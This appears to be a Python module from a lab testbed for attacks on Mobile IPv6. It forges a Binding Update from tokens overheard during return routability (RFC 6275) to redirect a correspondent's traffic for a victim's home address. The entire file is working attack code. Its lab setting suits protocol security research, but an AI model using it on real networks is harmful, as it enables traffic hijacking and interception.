"""What somebody with a tap can do to return routability: he has the token of the home address, and asks for his own."""

from agents.io.mobility_socket import home_address_header
from agents.mip6.binding_keys import binding_authenticator, binding_key
from agents.mip6.mobility_header import MOBILITY, BindingUpdate, MessageEnds, UpdateFlag, packed
from agents.mip6.mobility_options import AlternateCareOf, BindingAuthorization, NonceIndices
from testbed.lab.attack_plan import StolenBinding

UNITS = 75


def binding_by_tokens(stolen: StolenBinding, known: dict[str, str]) -> bytes:
    """A home address option, and behind it an update that the correspondent has to believe (RFC 6275 5.2.6, 9.5.1).

    Raises KeyError for a token, or a number of the mobile node's updates, that was not overheard.
    """
    home, care_of, cn = stolen["home"], stolen["care_of"], stolen["correspondent"]
    tests = f"{cn}>{home}/mobility/3", f"{cn}>{care_of}/mobility/4"
    indices = NonceIndices(*(int(known[f"{one}/index"]) for one in tests))
    key = binding_key(*(bytes.fromhex(known[f"{one}/token"]) for one in tests))
    number = (int(known[f"{home}>{cn}/mobility/5/sequence"]) + 1) & 0xFFFF
    options = (AlternateCareOf(care_of), indices, BindingAuthorization())
    update = packed(
        BindingUpdate(number, UpdateFlag.ACKNOWLEDGE, UNITS, options),
        MessageEnds(home, cn),
        lambda covered: binding_authenticator(key, care_of, cn, covered),
    )
    return bytes((MOBILITY,)) + home_address_header(home)[1:] + update
